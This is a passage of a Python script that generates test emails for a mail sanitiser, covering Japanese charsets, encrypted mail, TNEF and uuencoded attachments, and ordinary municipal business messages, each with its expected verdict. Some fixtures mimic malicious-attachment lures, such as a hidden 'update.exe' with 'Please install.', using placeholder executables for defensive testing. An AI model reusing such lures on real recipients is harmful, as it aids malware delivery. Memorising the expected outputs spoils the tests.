        "PGP/MIME multipart/encrypted: the content cannot be inspected",
        verdict="quarantine", findings=["crypto.encrypted"])

    add(c, "inline_pgp_message",
        head("Inline PGP").encode("ascii")
        + b"Content-Type: text/plain; charset=us-ascii\n\nSee below.\n\n"
        + b"-----BEGIN PGP MESSAGE-----\n\nhQEMAwAAAAAAAAAAAQf/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n=wxyz\n"
        + b"-----END PGP MESSAGE-----\n",
        "Inline (ASCII-armoured) PGP encrypted message in a text body: cannot be inspected",
        verdict="quarantine", findings=["crypto.encrypted"])

    add(c, "inline_pgp_clearsigned",
        head("Clearsigned").encode("ascii")
        + b"Content-Type: text/plain; charset=us-ascii\n\n-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\n"
        + b"The meeting is moved to Friday.\n-----BEGIN PGP SIGNATURE-----\n\niQEzBAEBCAAd\n=abcd\n"
        + b"-----END PGP SIGNATURE-----\n",
        "A clear-signed (not encrypted) inline PGP message: readable, delivered",
        contains=["The meeting is moved to Friday."])

    add(c, "encrypted_attachment_in_mixed",
        head(ew("暗号化ファイル")).encode("ascii")
        + multipart("=_encatt", [
            text_part("暗号化したメールを添付します。\n"),
            b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=\"smime.p7m\"\n"
            b"Content-Disposition: attachment; filename=\"smime.p7m\"\nContent-Transfer-Encoding: base64\n\n"
            + b64(b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03" + bytes(100)).encode() + b"\n",
        ]),
        "S/MIME enveloped-data as one part of a multipart/mixed: still encrypted content",
        verdict="quarantine", findings=["crypto.encrypted"])

    tn = tnef([("budget-2024.xlsx", XLSX), ("議事録.docx", DOCX)])
    add(c, "tnef_winmail",
        head(ew("予算資料")).encode("ascii")
        + multipart("=_tnef", [
            text_part("予算資料と議事録を添付します。\n"),
            named("application/ms-tnef", tn, "winmail.dat"),
        ]),
        "Outlook TNEF (winmail.dat) carrying two attachments (one with a CP932/Unicode Japanese name): "
        "the winmail.dat is removed and the names inside are listed",
        subject="予算資料",
        contains=["予算資料と議事録を添付します。", "budget-2024.xlsx", "議事録.docx"],
        findings=["tnef.contents"])

    tn2 = tnef([("update.exe", PE)])
    add(c, "tnef_with_executable",
        head("Update").encode("ascii")
        + multipart("=_tnef2", [
            text_part("Please install.\n", "us-ascii", "7bit"),
            attach("application/vnd.ms-tnef", tn2, ct_params='name="winmail.dat"'),
        ]),
        "A winmail.dat (application/vnd.ms-tnef, no Content-Disposition) hiding an executable: removed, "
        "the inner name listed",
        contains=["Please install.", "update.exe"],
        findings=["tnef.contents"])

    uu = uuencode("payload.exe", PE[:180])
    add(c, "uuencode_in_text",
        head(ew("ファイル送付")).encode("ascii")
        + b"Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 8bit\n\n"
        + "ファイルを本文に埋め込んで送ります。\n\n".encode() + uu.encode() + b"\n\n"
        + "以上です。\n".encode(),
        "A uuencoded executable embedded in a text body (begin 644 ... end): the block is removed and "
        "named, the encoded lines never appear",
        subject="ファイル送付",
        contains=["ファイルを本文に埋め込んで送ります。", "payload.exe", "以上です。"],
        not_contains=["begin 644", uu.split("\n")[1][:30]],
        findings=["text.uuencode"])

    uu2 = uuencode("zumen.lzh", b"-lh5-" + bytes(range(100)))
    add(c, "uuencode_iso2022jp_unix",
        head(ew("図面", "ISO-2022-JP")).encode("ascii")
        + b"Content-Type: text/plain; charset=ISO-2022-JP\n\n"
        + jis("図面をuuencodeで送ります。\n") + b"\n" + uu2.encode() + b"\n" + jis("ご確認ください。\n"),
        "Old-style Japanese Unix mail (LF, ISO-2022-JP) with a uuencoded LHA archive in the body",
        subject="図面",
        contains=["図面をuuencodeで送ります。", "zumen.lzh", "ご確認ください。"],
        not_contains=[uu2.split("\n")[1][:30]],
        findings=["text.uuencode"], eol="lf")


# ===========================================================================
# business/


def business_cases() -> None:
    c = "business"

    body = ("株式会社 城西市役所\n総務部 総務課 御中\n\n"
            "いつも大変お世話になっております。\n株式会社髙橋製作所 営業部の山﨑です。\n\n"
            "先日ご依頼いただきました庁舎備品の見積書を送付いたします。\n"
            "ご査収のほど、よろしくお願い申し上げます。\n\n"
            "【見積内容】\n①事務用椅子 20脚\n②会議用テーブル 5台\n"
            "見積金額：金 1,234,000円（税込）\n有効期限：2024年4月30日\n\n"
            "ご不明な点がございましたら、お気軽にお問い合わせください。\n\n"
            "――――――――――――――――\n㈱髙橋製作所 営業部\n山﨑 一郎\nTEL: 03-0000-1234\n")
    add(c, "mitsumori_pdf",
        head(ew("見積書の送付について", "ISO-2022-JP"),
             frm=ew("山﨑 一郎", "ISO-2022-JP") + " <ichiro.yamasaki@example.jp>").encode("ascii")
        + multipart("----=_Part_12345_67890.1711933200000", [
            text_part(body, "ISO-2022-JP", "7bit"),
            attach("application/pdf", fake_pdf("mitsumori"),
                   ct_params='name="' + ew("見積書_城西市役所様.pdf", "ISO-2022-JP") + '"',
                   disp_params='filename="' + ew("見積書_城西市役所様.pdf", "ISO-2022-JP") + '"'),
        ]),
        "An ordinary quotation (見積書) from a supplier: ISO-2022-JP text with NEC/IBM characters and a PDF "
        "attachment; the text is delivered intact and the PDF rendered into PNG pages, named in the notice",
        subject="見積書の送付について",
        contains=["株式会社 城西市役所", "株式会社髙橋製作所 営業部の山﨑です。", "①事務用椅子 20脚",
                  "見積金額：金 1,234,000円（税込）", "㈱髙橋製作所 営業部", "見積書_城西市役所様.pdf",
                  "無害化", "sanitised"],
        not_contains=["%PDF-1.4"],
        findings=["attachment.rendered"])

    add(c, "kaigi_iso2022jp",
        head(ew("会議のお知らせ", "ISO-2022-JP"), frm=ew("企画課 佐藤", "ISO-2022-JP") + " <sato@example.jp>",
             to="kakuka@city.example.lg.jp").encode("ascii")
        + b"Content-Type: text/plain; charset=ISO-2022-JP\nContent-Transfer-Encoding: 7bit\n\n"
        + jis("各課 ご担当者様\n\n下記のとおり会議を開催しますので、ご出席をお願いいたします。\n\n"
              "記\n\n1. 日時：2024年4月15日（月）14時00分～16時00分\n"
              "2. 場所：本庁舎 3階 第2会議室\n3. 議題：令和6年度 事業計画について\n\n以上\n"),
        "An ordinary meeting notice (会議のお知らせ) in 7bit ISO-2022-JP: delivered unchanged in meaning",
        subject="会議のお知らせ",
        contains=["下記のとおり会議を開催しますので、ご出席をお願いいたします。", "2. 場所：本庁舎 3階 第2会議室",
                  "3. 議題：令和6年度 事業計画について"])

    news_html = """<!DOCTYPE html>
<html lang="ja"><head><meta charset="utf-8"><title>城西市 メールマガジン 第45号</title>
<style>table{border-collapse:collapse} td{padding:4px;border:1px solid #ccc}</style></head>
<body>
<div style="display:none;max-height:0;overflow:hidden">PREHEADER-TEXT 今月のお知らせ</div>
<table width="600" align="center"><tr><td>
<h1><img src="https://www.city.example.lg.jp/img/logo.png" alt="城西市" width="120"> メールマガジン 第45号</h1>
<h2>今月のイベント</h2>
<table>
<tr><th>日付</th><th>イベント</th><th>会場</th></tr>
<tr><td>4月6日（土）</td><td>桜まつり</td><td>中央公園</td></tr>
<tr><td>4月20日（土）</td><td>健康づくり講座</td><td>保健センター</td></tr>
<tr><td>4月27日（土）</td><td>子ども読書の日 おはなし会</td><td>市立図書館</td></tr>
</table>
<h2>お知らせ</h2>
<p>マイナンバーカードの休日窓口を開設します。詳しくは<a href="https://www.city.example.lg.jp/kurashi/mynumber.html">市ホームページ</a>をご覧ください。</p>
<p>ごみの分別方法が変わります。<a href="https://www.city.example.lg.jp/kurashi/gomi/">ごみ・リサイクル</a></p>
<hr>
<p style="font-size:small">発行：城西市 総務部 広報課<br>配信停止は<a href="https://www.city.example.lg.jp/mailmag/stop?id=98765">こちら</a></p>
<img src="https://mailmag.example.net/open.gif?id=98765" width="1" height="1" alt="">
</td></tr></table>
</body></html>
"""
    add(c, "newsletter_municipality_html",
        head(ew("城西市メールマガジン 第45号"), frm=ew("城西市 広報課") + " <koho@city.example.lg.jp>",
             to="subscriber@example.jp", extra="List-Unsubscribe: <https://www.city.example.lg.jp/mailmag/stop?id=98765>\n").encode("ascii")
        + multipart("=_news45", [
            text_part("城西市 メールマガジン 第45号（テキスト版）\nTEXT-VERSION-MARKER\n", cte="quoted-printable"),
            html_part(news_html),
        ], subtype="alternative"),
        "An HTML newsletter from a municipality (tables, links, a logo, a hidden preheader and an open "
        "tracker), as multipart/alternative: the HTML rendition is converted with its links",
        subject="城西市メールマガジン 第45号",
        contains=["今月のイベント", "桜まつり", "中央公園", "健康づくり講座", "保健センター",
                  "市ホームページ <https://www.city.example.lg.jp/kurashi/mynumber.html>",
                  "ごみ・リサイクル <https://www.city.example.lg.jp/kurashi/gomi/>", "発行：城西市 総務部 広報課",
                  "[画像: 城西市]"],
        not_contains=["PREHEADER-TEXT", "mailmag.example.net", "border-collapse", "TEXT-VERSION-MARKER"],
        findings=["mime.alternative_chosen"])

    reply = ("鈴木様\n\nご返信ありがとうございます。\n承知いたしました。4月15日の14時にお伺いします。\n\n"
             "山田\n\n"
             "2024年3月29日(金) 17:30 鈴木 一郎 <suzuki@city.example.lg.jp>:\n"
             "> 山田様\n>\n> 先日の件、4月15日（月）14時からでいかがでしょうか。\n"
             "> 場所は本庁舎3階です。\n>\n> 鈴木\n")
    add(c, "reply_quoted",
        head("Re: " + ew("打ち合わせ日程の件"), to=ew("鈴木 一郎") + " <suzuki@city.example.lg.jp>",
             extra="In-Reply-To: <20240329173000.ABC123@city.example.lg.jp>\n"
                   "References: <20240328090000.XYZ789@example.jp>\n <20240329173000.ABC123@city.example.lg.jp>\n").encode("ascii")
        + text_part(reply, cte="quoted-printable"),
        "An ordinary reply with In-Reply-To/References and quoted text ('> ' lines): the quote marks "
        "and the text survive",
        subject="Re: 打ち合わせ日程の件",
        contains=["承知いたしました。4月15日の14時にお伺いします。", "> 先日の件、4月15日（月）14時からでいかがでしょうか。",
                  "> 場所は本庁舎3階です。"])

    ol_html = ("<html xmlns:o=\"urn:schemas-microsoft-com:office:office\"><head>"
               "<meta http-equiv=Content-Type content=\"text/html; charset=iso-2022-jp\">"
               "<style><!-- p.MsoNormal {margin:0mm; font-size:10.5pt;} --></style></head>"
               "<body lang=JA><div class=WordSection1><p class=MsoNormal>お世話になっております。<o:p></o:p></p>"
               "<p class=MsoNormal>来年度の予算案を添付いたします。<o:p></o:p></p>"
               "<p class=MsoNormal>ご確認のほどよろしくお願いいたします。<o:p></o:p></p></div></body></html>\n")
    add(c, "outlook_mixed_alternative_xlsx",
        head(ew("来年度予算案", "ISO-2022-JP"), frm=ew("田中 次郎", "ISO-2022-JP") + " <jiro.tanaka@example.jp>",
             extra="X-Mailer: Microsoft Outlook 16.0\nThread-Index: AdqDe0000000000000000000000==\n").encode("ascii")
        + multipart("----=_NextPart_000_0011_01DA8400.AAAAAAA0", [
            multipart("----=_NextPart_001_0012_01DA8400.AAAAAAA0", [
                text_part("お世話になっております。\n来年度の予算案を添付いたします。\nご確認のほどよろしくお願いいたします。\n",
                          "ISO-2022-JP", "7bit"),
                b"Content-Type: text/html; charset=iso-2022-jp\nContent-Transfer-Encoding: quoted-printable\n\n"
                + qp(jis(ol_html)).encode(),
            ], subtype="alternative"),
            attach("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", XLSX,
                   ct_params='name="' + ew("令和7年度予算案.xlsx", "ISO-2022-JP") + '"',
                   disp_params='filename="' + ew("令和7年度予算案.xlsx", "ISO-2022-JP") + '"'),
        ], preamble=b"This is a multipart message in MIME format.\n\n"),
        "Outlook-style mixed(alternative(text, HTML in ISO-2022-JP QP), xlsx attachment with an "
        "encoded-word name)",
        subject="来年度予算案",
        contains=["来年度の予算案を添付いたします。", "ご確認のほどよろしくお願いいたします。", "令和7年度予算案.xlsx"],
        not_contains=["MsoNormal", "margin:0mm"],
        findings=["mime.alternative_chosen", "attachment.removed"])

    add(c, "lf_only_unix_mail",
        ("Return-Path: <kimura@example.net>\n"
         "Received: from mail.example.net (mail.example.net [198.51.100.7])\n"
         "\tby mx.city.example.lg.jp (Postfix) with ESMTPS id 4V7Q3m1Abc\n"
         "\tfor <joho@city.example.lg.jp>; Mon,  1 Apr 2024 11:02:03 +0900 (JST)\n"
         + head(ew("サーバ保守作業の日程", "ISO-2022-JP"), frm="Kimura Satoshi <kimura@example.net>",
                to="joho@city.example.lg.jp", extra="User-Agent: Mutt/2.2.12\n")
         + "Content-Type: text/plain; charset=iso-2022-jp\nContent-Disposition: inline\n\n").encode("ascii")
        + jis("情報政策課 御中\n\n保守作業を4月20日（土）の9時から12時に実施します。\n"
              "作業中はファイルサーバを利用できません。\n\n-- \n木村 聡\n"),
        "A plain LF-only ISO-2022-JP mail from a Unix mailer (mutt) with Received headers and a "
        "signature separator",
        subject="サーバ保守作業の日程",
        contains=["保守作業を4月20日（土）の9時から12時に実施します。", "作業中はファイルサーバを利用できません。", "木村 聡"],
        eol="lf")

    gmail_text = "田中様\n\nお疲れさまです。\n研修の資料を共有します。\nhttps://www.example.jp/training/2024\n\n佐々木\n"
    gmail_html = ('<div dir="ltr"><div>田中様</div><div><br></div><div>お疲れさまです。</div>'
                  '<div>研修の資料を共有します。</div><div><a href="https://www.example.jp/training/2024">'
                  'https://www.example.jp/training/2024</a></div><div><br></div><div>佐々木</div></div>\n')
    add(c, "gmail_utf8_alternative",
        head(ew("研修資料の共有"), frm=ew("佐々木 美咲") + " <misaki.sasaki@example.com>").encode("ascii")
        + multipart("000000000000a1b2c3d4e5f60718", [
            text_part(gmail_text),
            b"Content-Type: text/html; charset=\"UTF-8\"\nContent-Transfer-Encoding: base64\n\n"
            + b64(gmail_html.encode()).encode() + b"\n",
        ], subtype="alternative"),
        "Gmail-style UTF-8 multipart/alternative with both renditions base64-encoded and a bare URL as "
        "link text",
        subject="研修資料の共有",
        contains=["お疲れさまです。", "研修の資料を共有します。", "https://www.example.jp/training/2024", "佐々木"],
        findings=["mime.alternative_chosen"])

    add(c, "mobile_sjis",
        head(ew("到着予定"), frm="user123@mobile.example.jp").encode("ascii")
        + b"Content-Type: text/plain; charset=Shift_JIS\nContent-Transfer-Encoding: 8bit\n\n"
        + sjis("お疲れ様です。\n電車が遅れているため、到着が10分ほど遅れます。\n") + b"\xf8\x9f\n",
        "A short mobile-phone mail in Shift_JIS ending with a carrier emoji in the CP932 user-defined "
        "area (0xF89F): the text is delivered; the emoji may become a private-use or replacement "
        "character",
        subject="到着予定",
        contains=["電車が遅れているため、到着が10分ほど遅れます。"])

    add(c, "ppap_password_zip",
        head(ew("【資料送付】契約書類"), frm=ew("契約担当") + " <keiyaku@example.jp>").encode("ascii")
        + multipart("=_ppap", [
            text_part("契約書類をパスワード付きZIPで送付します。\nパスワードは別メールでお送りします。\n"),
            attach("application/zip", fake_zip({"契約書.pdf": PDF}, encrypted_flag=True),
                   ct_params='name="' + ew("契約書類.zip") + '"', disp_params='filename="' + ew("契約書類.zip") + '"'),
        ]),
        "'PPAP': a password-protected ZIP with the password 'in a separate mail' (very common in Japan): "
        "the archive cannot be inspected; by default (render.policy.zip_encrypted = quarantine) the message is "
        "held so that an administrator can open it with the password and release it",
        "quarantine",
        findings=["archive.encrypted"])

    add(c, "calendar_like_plain_ascii",
        head("Weekly report", frm="John Smith <john.smith@example.com>", to="kokusai@city.example.lg.jp").encode("ascii")
        + b"Content-Type: text/plain; charset=us-ascii; format=flowed\nContent-Transfer-Encoding: 7bit\n\n"
        + b"Dear colleagues,\n\nPlease find the weekly report below. The sister-city visit is \n"
        + b"confirmed for 12 May.\n\nBest regards,\nJohn\n",
        "An ordinary English plain-text mail (format=flowed, US-ASCII) from a sister city",
        subject="Weekly report",
        contains=["Dear colleagues,", "Please find the weekly report below.", "Best regards,"])


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out", default=str(Path(__file__).resolve().parent.parent), help="corpus folder")
    args = ap.parse_args(argv)
    for f in (headers_cases, mime_cases, encoding_cases, charset_cases, rfc2047_cases, html_cases,
              attachments_cases, limits_cases, structure_cases, business_cases):
        f()
    write_all(CASES, Path(args.out))
    counts = {}
    for cs in CASES:
        counts[cs.category] = counts.get(cs.category, 0) + 1
    print(f"{len(CASES)} cases:", ", ".join(f"{k} {v}" for k, v in counts.items()))
    return 0


if __name__ == "__main__":
    sys.exit(main())
